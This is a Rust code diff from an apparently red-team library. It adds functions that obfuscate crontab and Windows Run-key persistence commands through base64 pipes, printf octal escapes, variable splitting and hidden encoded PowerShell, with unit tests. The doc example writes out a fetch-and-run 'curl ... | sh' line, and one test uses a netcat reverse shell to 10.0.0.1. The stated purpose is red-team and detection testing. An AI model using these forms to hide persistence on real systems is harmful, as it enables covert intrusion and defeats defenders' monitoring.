@@ -0,0 +1,392 @@
+use crate::result::TransformResult;
+use crate::rng::SimpleRng;
+use crate::transformations::encoding::{base64_encode, base64_encode_bytes};
+use crate::transformations::shell::cmd_env_substring;
+
+/// Full ranges equivalent to `*` in each crontab schedule field.
+const CRON_FIELD_RANGES: [&str; 5] = ["0-59", "0-23", "1-31", "1-12", "0-6"];
+
+/// Obfuscates a crontab entry for persistence detection testing.
+///
+/// The schedule (five fields or an `@reboot`-style macro) is kept, with
+/// each `*` randomly spelled as its full range (`0-59`, `0-23`, ...). The
+/// command is hidden behind one of:
+///
+/// - A base64 pipe: `echo <b64> | base64 -d | sh`
+/// - Environment indirection, the payload held in a variable:
+///   `P=<b64> sh -c 'echo $P | base64 -d | sh'`
+/// - Octal escapes rebuilt by `printf`: `sh -c "$(printf '\167\150...')"`
+///
+/// None of the forms contain `%`, which cron would turn into a newline, so
+/// commands that needed `\%` escapes are unescaped before encoding. Entries
+/// without a complete schedule are returned unchanged.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Plant cron persistence whose command line hides the payload
+/// - **Blue Team**: Verify crontab monitoring decodes base64 and printf indirection
+///
+/// # Examples
+///
+/// ```
+/// use redstr::crontab_obfuscate;
+/// let result = crontab_obfuscate("*/5 * * * * curl http://x/a.sh | sh");
+/// assert!(result.starts_with("*/5 "));
+/// assert!(!result.contains("curl"));
+/// ```
+pub fn crontab_obfuscate(entry: &str) -> String {
+    crontab_obfuscate_detailed(entry).output
+}
+
+/// Like [`crontab_obfuscate`], also reporting how the command was hidden.
+///
+/// The technique is `base64_pipe`, `env_indirection` or `printf_octal`, or
+/// `unchanged` for entries without a complete schedule. The
+/// `expanded_fields` parameter counts the `*` fields spelled as ranges.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::crontab_obfuscate_detailed;
+/// let result = crontab_obfuscate_detailed("@reboot id");
+/// assert_ne!(result.technique, "unchanged");
+/// assert_eq!(result.parameter("expanded_fields"), Some("0"));
+/// ```
+pub fn crontab_obfuscate_detailed(entry: &str) -> TransformResult {
+    let mut rng = SimpleRng::new();
+    let trimmed = entry.trim();
+    let fields = if trimmed.starts_with('@') { 1 } else { 5 };
+
+    // Fields are separated by runs of blanks; the command is the rest of the line
+    let mut rest = trimmed;
+    let mut schedule = Vec::with_capacity(fields);
+    while schedule.len() < fields && !rest.is_empty() {
+        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
+        schedule.push(&rest[..end]);
+        rest = rest[end..].trim_start();
+    }
+    let command = match rest.trim() {
+        command if schedule.len() == fields && !command.is_empty() => command,
+        _ => {
+            return TransformResult {
+                output: entry.to_string(),
+                technique: "unchanged",
+                parameters: Vec::new(),
+                reversible: true,
+            }
+        }
+    };
+    let command = command.replace("\\%", "%");
+
+    let mut expanded = 0;
+    let schedule: Vec<String> = schedule
+        .iter()
+        .enumerate()
+        .map(|(i, field)| {
+            if *field == "*" && fields == 5 && rng.next() % 2 == 0 {
+                expanded += 1;
+                CRON_FIELD_RANGES[i].to_string()
+            } else {
+                field.to_string()
+            }
+        })
+        .collect();
+
+    let encoded = base64_encode(&command);
+    let (technique, command) = match rng.next() % 3 {
+        0 => ("base64_pipe", format!("echo {} | base64 -d | sh", encoded)),
+        1 => (
+            "env_indirection",
+            format!("P={} sh -c 'echo $P | base64 -d | sh'", encoded),
+        ),
+        _ => {
+            let octal: String = command.bytes().map(|b| format!("\\{:03o}", b)).collect();
+            ("printf_octal", format!("sh -c \"$(printf '{}')\"", octal))
+        }
+    };
+
+    TransformResult {
+        output: format!("{} {}", schedule.join(" "), command),
+        technique,
+        parameters: vec![("expanded_fields", expanded.to_string())],
+        reversible: false,
+    }
+}
+
+/// Obfuscates a command for a Windows `Run`/`RunOnce` registry value.
+///
+/// Run key values are started without a shell, so each form brings its own
+/// interpreter:
+///
+/// - cmd.exe substring expansion: `cmd.exe /c %COMSPEC:~-1,1%...` (see
+///   [`cmd_env_substring`](crate::cmd_env_substring))
+/// - Environment indirection: the command is split across variables and
+///   rebuilt by `call`, as in `cmd.exe /c "set "_0=who"&&set "_1=ami"&&call %_0%%_1%"`
+/// - An encoded PowerShell command:
+///   `powershell.exe -NoP -W Hidden -EncodedCommand <UTF-16LE base64>`
+///
+/// Commands containing `"`, `%` or `^` skip the variable form, which
+/// cannot carry them safely.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Register run-key persistence without the payload in the value
+/// - **Blue Team**: Verify autoruns monitoring flags indirection in Run values
+///
+/// # Examples
+///
+/// ```
+/// use redstr::registry_run_key_obfuscate;
+/// let result = registry_run_key_obfuscate("C:\\Users\\Public\\update.exe");
+/// assert!(!result.contains("update.exe"));
+/// ```
+pub fn registry_run_key_obfuscate(command: &str) -> String {
+    registry_run_key_obfuscate_detailed(command).output
+}
+
+/// Like [`registry_run_key_obfuscate`], also reporting the form used.
+///
+/// The technique is `cmd_env_substring`, `cmd_set_call` (with the number
+/// of `variables`) or `powershell_encoded`. Only the encoded PowerShell
+/// form is reversible without knowing the target's environment.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::registry_run_key_obfuscate_detailed;
+/// let result = registry_run_key_obfuscate_detailed("calc");
+/// assert_eq!(result.reversible, result.technique == "powershell_encoded");
+/// ```
+pub fn registry_run_key_obfuscate_detailed(command: &str) -> TransformResult {
+    let mut rng = SimpleRng::new();
+    let splittable = !command.contains(['"', '%', '^']) && !command.is_empty();
+
+    match rng.next() % 3 {
+        1 if splittable => {
+            let chars: Vec<char> = command.chars().collect();
+            let mut sets = Vec::new();
+            let mut refs = String::new();
+            let mut start = 0;
+            while start < chars.len() {
+                let end = (start + 2 + (rng.next() % 4) as usize).min(chars.len());
+                let name = format!("_{}", sets.len());
+                let value: String = chars[start..end].iter().collect();
+                sets.push(format!("set \"{}={}\"", name, value));
+                refs.push_str(&format!("%{}%", name));
+                start = end;
+            }
+            TransformResult {
+                output: format!("cmd.exe /c \"{}&&call {}\"", sets.join("&&"), refs),
+                technique: "cmd_set_call",
+                parameters: vec![("variables", sets.len().to_string())],
+                reversible: false,
+            }
+        }
+        0 | 1 => TransformResult {
+            output: format!("cmd.exe /c {}", cmd_env_substring(command)),
+            technique: "cmd_env_substring",
+            parameters: Vec::new(),
+            reversible: false,
+        },
+        _ => {
+            let utf16: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
+            TransformResult {
+                output: format!(
+                    "powershell.exe -NoP -W Hidden -EncodedCommand {}",
+                    base64_encode_bytes(&utf16)
+                ),
+                technique: "powershell_encoded",
+                parameters: Vec::new(),
+                reversible: true,
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::transformations::encoding::base64url_decode;
+
+    /// Recovers the command from a `crontab_obfuscate` entry.
+    fn cron_command(entry: &str, fields: usize) -> String {
+        let mut command = entry.trim_start();
+        for _ in 0..fields {
+            let end = command.find(char::is_whitespace).unwrap();
+            command = command[end..].trim_start();
+        }
+        if let Some(octal) = command.strip_prefix("sh -c \"$(printf '") {
+            let octal = octal.trim_end_matches("')\"");
+            let bytes: Vec<u8> = octal
+                .split('\\')
+                .filter(|s| !s.is_empty())
+                .map(|s| u8::from_str_radix(s, 8).unwrap())
+                .collect();
+            return String::from_utf8(bytes).unwrap();
+        }
+        let encoded = command
+            .trim_start_matches("echo ")
+            .trim_start_matches("P=")
+            .split(' ')
+            .next()
+            .unwrap();
+        String::from_utf8(base64url_decode(encoded).unwrap()).unwrap()
+    }
+
+    #[test]
+    fn test_crontab_obfuscate_round_trip() {
+        for _ in 0..30 {
+            let result = crontab_obfuscate("0 3 * * 1 /usr/bin/backup --all");
+            assert!(!result.contains("backup"), "{}", result);
+            assert_eq!(cron_command(&result, 5), "/usr/bin/backup --all");
+        }
+    }
+
+    #[test]
+    fn test_crontab_obfuscate_schedule_ranges() {
+        let mut expanded = false;
+        for _ in 0..20 {
+            let result = crontab_obfuscate("* * * * * id");
+            let schedule: Vec<&str> = result.split_whitespace().take(5).collect();
+            for (field, range) in schedule.iter().zip(CRON_FIELD_RANGES) {
+                assert!(*field == "*" || *field == range, "{}", result);
+                expanded |= *field == range;
+            }
+        }
+        assert!(expanded);
+    }
+
+    #[test]
+    fn test_crontab_obfuscate_blank_runs() {
+        for _ in 0..20 {
+            let result = crontab_obfuscate("*/5  *  *\t*  *   /usr/bin/backup  --all");
+            let schedule: Vec<&str> = result.split(' ').take(5).collect();
+            assert_eq!(schedule[0], "*/5", "{}", result);
+            for (field, range) in schedule[1..].iter().zip(&CRON_FIELD_RANGES[1..]) {
+                assert!(*field == "*" || field == range, "{}", result);
+            }
+            assert_eq!(cron_command(&result, 5), "/usr/bin/backup  --all");
+        }
+    }
+
+    #[test]
+    fn test_crontab_obfuscate_macro_schedule() {
+        for _ in 0..10 {
+            let result = crontab_obfuscate("@reboot nc -e /bin/sh 10.0.0.1 4444");
+            assert!(result.starts_with("@reboot "));
+            assert_eq!(cron_command(&result, 1), "nc -e /bin/sh 10.0.0.1 4444");
+        }
+    }
+
+    #[test]
+    fn test_crontab_obfuscate_percent() {
+        for _ in 0..20 {
+            let result = crontab_obfuscate("0 0 * * * date +\\%s > /tmp/t");
+            assert!(!result.contains('%'), "{}", result);
+            assert_eq!(cron_command(&result, 5), "date +%s > /tmp/t");
+        }
+    }
+
+    #[test]
+    fn test_crontab_obfuscate_incomplete_entry() {
+        assert_eq!(crontab_obfuscate("* * * id"), "* * * id");
+        assert_eq!(crontab_obfuscate("@daily"), "@daily");
+        assert_eq!(crontab_obfuscate(""), "");
+    }
+
+    #[test]
+    fn test_registry_run_key_obfuscate_forms() {
+        let mut seen = std::collections::HashSet::new();
+        for _ in 0..60 {
+            let result = registry_run_key_obfuscate("whoami /all");
+            assert!(!result.contains("whoami"), "{}", result);
+            if result.starts_with("powershell.exe ") {
+                seen.insert("powershell");
+            } else if result.contains("&&call ") {
+                seen.insert("variables");
+            } else {
+                assert!(result.starts_with("cmd.exe /c %"), "{}", result);
+                seen.insert("substring");
+            }
+        }
+        assert_eq!(seen.len(), 3);
+    }
+
+    #[test]
+    fn test_registry_run_key_obfuscate_variables() {
+        for _ in 0..30 {
+            let result = registry_run_key_obfuscate("C:\\Temp\\a b.exe -x");
+            if let Some(body) = result.strip_prefix("cmd.exe /c \"") {
+                let (sets, refs) = body.trim_end_matches('"').split_once("&&call ").unwrap();
+                let mut rebuilt = refs.to_string();
+                for set in sets.split("&&") {
+                    let (name, value) = set
+                        .trim_start_matches("set \"")
+                        .trim_end_matches('"')
+                        .split_once('=')
+                        .unwrap();
+                    rebuilt = rebuilt.replace(&format!("%{}%", name), value);
+                }
+                assert_eq!(rebuilt, "C:\\Temp\\a b.exe -x");
+            }
+        }
+    }
+
+    #[test]
+    fn test_registry_run_key_obfuscate_encoded_command() {
+        for _ in 0..30 {
+            let result = registry_run_key_obfuscate("calc");
+            if let Some(encoded) =
+                result.strip_prefix("powershell.exe -NoP -W Hidden -EncodedCommand ")
+            {
+                assert_eq!(encoded, "YwBhAGwAYwA=");
+            }
+        }
+    }
+
+    #[test]
+    fn test_registry_run_key_obfuscate_unsafe_chars() {
+        for _ in 0..30 {
+            let result = registry_run_key_obfuscate("cmd /c \"echo %TEMP%\"");
+            assert!(!result.contains("&&call "), "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_crontab_obfuscate_detailed() {
+        for _ in 0..30 {
+            let result = crontab_obfuscate_detailed("* * * * * id");
+            let command = result.output.splitn(6, ' ').nth(5).unwrap();
+            match result.technique {
+                "base64_pipe" => assert!(command.starts_with("echo ")),
+                "env_indirection" => assert!(command.starts_with("P=")),
+                "printf_octal" => assert!(command.contains("printf")),
+                other => panic!("unexpected technique {}", other),
+            }
+            let ranges = result.output.matches('-').count() - command.matches('-').count();
+            assert_eq!(
+                result.parameter("expanded_fields"),
+                Some(&*ranges.to_string())
+            );
+        }
+        let result = crontab_obfuscate_detailed("bad");
+        assert_eq!(result.technique, "unchanged");
+        assert_eq!(result.output, "bad");
+    }
+
+    #[test]
+    fn test_registry_run_key_obfuscate_detailed() {
+        for _ in 0..30 {
+            let result = registry_run_key_obfuscate_detailed("whoami /all");
+            match result.technique {
+                "cmd_set_call" => {
+                    let variables: usize = result.parameter("variables").unwrap().parse().unwrap();
+                    assert_eq!(result.output.matches("set \"").count(), variables);
+                }
+                "cmd_env_substring" => assert!(result.output.starts_with("cmd.exe /c %")),
+                "powershell_encoded" => assert!(result.reversible),
+                other => panic!("unexpected technique {}", other),
+            }
+        }
+    }
+}